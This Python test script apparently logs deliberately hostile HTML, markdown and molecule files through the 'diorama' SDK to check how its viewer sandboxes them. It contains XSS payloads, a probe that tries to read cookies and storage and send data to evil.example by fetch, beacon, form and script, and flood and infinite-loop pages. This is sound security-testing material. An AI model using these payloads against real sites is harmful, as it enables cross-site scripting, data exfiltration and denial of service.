"""Fill a store with texts, pages and molecules, some of them hostile, through the real SDK.

DIORAMA_DIR=DIR python fill_words.py
"""

from __future__ import annotations

import io
import sys
from pathlib import Path

import diorama

sys.path.insert(0, str(Path(__file__).parents[1] / "kinds"))

from molecule_files import SDF, SDF_TWO

HOSTILE_MARKDOWN = """# Heading

[bad](javascript:window.__xss=1) [worse](data:text/html,x) <img src=x onerror="window.__xss=1"> [good](https://example.org/)

![beacon](https://evil.example/pixel.png)

| a | b |
|---|--:|
| 1 | 2 |

<script>window.__xss=1</script> <style>*{display:none}</style> <a id=config name=forms>x</a>
"""

PROBE = """<!doctype html><title>probe</title><body><pre id=found></pre><script>
const found = {};
const attempt = (name, work) => {
  try { found[name] = String(work()) } catch (error) { found[name] = 'refused' } };
attempt('origin', () => self.origin);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('database', () => indexedDB.open('x') && 'opened');
attempt('parent', () => parent === self ? 'no parent' : parent.document.title);
attempt('canary', () => { parent.__xss = 1; return 'set' });
attempt('top', () => { top.location.href = '/api/projects'; return 'asked' });
attempt('popup', () => open('https://evil.example/popup'));
attempt('form', () => { const form = document.createElement('form'); form.action = 'https://evil.example/form';
  document.body.append(form); form.submit(); return 'submitted' });
attempt('worker', () => new Worker('https://evil.example/worker.js') && 'made');
attempt('image', () => { new Image().src = 'https://evil.example/pixel.png'; return 'asked' });
attempt('script', () => { const one = document.createElement('script'); one.src = 'https://evil.example/x.js';
  document.head.append(one); return 'asked' });
attempt('frame', () => { const one = document.createElement('iframe'); one.src = '/api/projects';
  document.body.append(one); return 'asked' });
attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
attempt('alert', () => alert('x'));
const later = (name, work) => {
  try { return work().then(() => { found[name] = 'worked' }, () => { found[name] = 'refused' }) }
  catch (error) { found[name] = 'refused' } };
Promise.all([
  later('fetch', () => fetch('/api/projects')),
  later('outside', () => fetch('https://evil.example/')),
  later('service worker', () => navigator.serviceWorker.register('/sw.js')),
]).then(() => { found.done = 'yes'; document.getElementById('found').textContent = JSON.stringify(found) });
</script>"""

FLOOD = """<title>flood</title>flood<script>
setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage(i, '*') }, 20)
</script>"""
BUSY = "<title>busy</title>busy<script>while (true);</script>"
LINKED = "<title>linked</title><a href='https://example.org/paper'>the paper</a> <a href='#end'>down</a>"

STILL = """<!doctype html><title>a page</title>
<style>body { margin: 0; background: rgb(20, 120, 220) }</style>
<p>as it was written</p><img src=https://evil.example/still.png>
<script>document.body.style.background = 'red'; parent.__xss = 1</script>"""


def far_apart(count: int) -> str:
    """One file of molecules that lie in a long row."""
    found = []
    for number in range(count):
        lines = SDF.splitlines()
        for at in range(4, 7):
            lines[at] = f"{float(lines[at][:10]) + 40 * number:10.4f}{lines[at][10:]}"
        found.append("\n".join(lines) + "\n$$$$\n")
    return "".join(found)


SMALL: dict[str, str] = {
    "sdf": SDF_TWO,
    "hostile": SDF.replace("water", "<img src=x onerror=window.__xss=1>").replace(" H   0", " <b>"),
    "lies": SDF.replace("  3  2  0", "999999  0"),
    "bonds": SDF.replace("  1  3  1  0", "  1999  1  0"),
}


def main() -> None:
    with diorama.init(project="words", entity="lab", name="words") as run:
        for step in range(2):
            run.log(
                {
                    "plain": diorama.Text(f"The answer of step {step}.", caption="answer"),
                    "long": diorama.Text(
                        "\n".join(f"line {number} of hay" for number in range(9_000)) + "\nneedle"
                    ),
                    "code": diorama.Text(io.StringIO("def f():\n    return 1\n"), language="python"),
                    "formatted": diorama.Markdown(HOSTILE_MARKDOWN),
                    "linked": diorama.Html(LINKED),
                    "probe": diorama.Html(PROBE),
                    "flood": diorama.Html(FLOOD),
                    "busy": diorama.Html(BUSY),
                    "outside": diorama.Html(
                        "<script src=https://cdn.example.org/x.js></script>shown", caption="asks"
                    ),
                    "many": [diorama.Html(f"<title>page {n}</title><p>page {n}") for n in range(8)],
                    "molecules": [
                        diorama.Molecule(io.StringIO(text), file_type="sdf", caption=name)
                        for name, text in SMALL.items()
                    ],
                    "far": diorama.Molecule(io.StringIO(far_apart(60)), file_type="sdf", caption="far"),
                    "pages": diorama.Table(columns=["page"], data=[[diorama.Html(STILL)]]),
                    "smiles": diorama.Molecule.from_smiles("CC(=O)Oc1ccccc1C(=O)O", caption="aspirin"),
                    "garbage": diorama.Molecule(io.StringIO("garbage"), file_type="pdb"),
                },
                step=step,
            )
        assert run.flush(wait=True, timeout_secs=100)


if __name__ == "__main__":
    main()
